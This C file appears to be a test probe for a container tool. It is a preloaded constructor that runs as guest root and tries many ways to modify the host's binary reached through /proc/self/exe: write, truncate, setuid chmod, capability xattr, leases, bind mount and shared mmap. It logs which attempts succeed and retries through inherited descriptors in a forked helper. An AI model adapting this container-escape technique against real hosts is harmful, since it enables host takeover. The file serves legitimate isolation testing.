/* What guest root does with the host's program that becomes its command: a script that begins with `#!/proc/self/exe` is
 * run by it, in the guest. Loaded into it there by /etc/ld.so.preload. Writes a line for whatever succeeds.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

static FILE *out;

static void succeeded(const char *what, int result)
{
	if (result >= 0)
		fprintf(out, "%s\n", what);
	if (result > 2)
		close(result);
}

static void try_all(const char *name, int fd)
{
	struct timespec now[2] = { { 1, 0 }, { 1, 0 } };
	struct flock lock = { .l_type = F_WRLCK };
	int flags = 0;

	succeeded("write", open(name, O_WRONLY));
	succeeded("read and write", open(name, O_RDWR));
	succeeded("truncate", open(name, O_WRONLY | O_TRUNC));
	succeeded("append", open(name, O_WRONLY | O_APPEND));
	succeeded("truncate by name", truncate(name, 0));
	succeeded("mode", chmod(name, 04777));
	succeeded("owner", chown(name, 0, 0));
	succeeded("times", utimensat(AT_FDCWD, name, now, 0));
	succeeded("attribute", setxattr(name, "user.attack", "x", 1, 0));
	succeeded("capability", setxattr(name, "security.capability", "\1\0\0\2\377\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 20, 0));
	succeeded("mode by descriptor", fchmod(fd, 04777));
	succeeded("lease", fcntl(fd, F_SETLEASE, F_WRLCK));
	succeeded("lease for reading", fcntl(fd, F_SETLEASE, F_RDLCK));
	succeeded("lock", fcntl(fd, F_SETLK, &lock));
	succeeded("flags", ioctl(fd, 0x40086602, &flags));
	succeeded("link", linkat(fd, "", AT_FDCWD, "/srv/linked", AT_EMPTY_PATH));
	succeeded("bind", mount(name, "/srv/bound", NULL, MS_BIND, NULL));
	void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	succeeded("map", memory == MAP_FAILED ? -1 : 0);
}

__attribute__((constructor)) static void attack(void)
{
	char path[4096];
	ssize_t length = readlink("/proc/self/exe", path, sizeof path - 1);

	path[length < 0 ? 0 : length] = 0;
	if (!strstr(path, "nixcloud-container") && !strstr(path, "victim"))
		return;
	unsetenv("LD_PRELOAD");
	out = fopen("/srv/said", "w");
	close(open("/srv/bound", O_WRONLY | O_CREAT, 0600));
	fprintf(out, "ran\n");
	try_all("/proc/self/exe", open("/proc/self/exe", O_RDONLY));

	/* It is busy while it runs. A descriptor outlives that; so it is tried again where nobody runs it any more. */
	int kept = open("/proc/self/exe", O_RDONLY), place = open("/proc/self/exe", O_PATH);
	pid_t parent = getpid();
	fflush(out);
	if (fork() == 0) {
		char a[32], b[32], c[32];
		snprintf(a, sizeof a, "%d", kept);
		snprintf(b, sizeof b, "%d", place);
		snprintf(c, sizeof c, "%d", parent);
		execl("/srv/enter", "enter", "reopen", a, b, c, "/srv/said", (char *)NULL);
		_exit(1);
	}
	fclose(out);
	_exit(0);
}
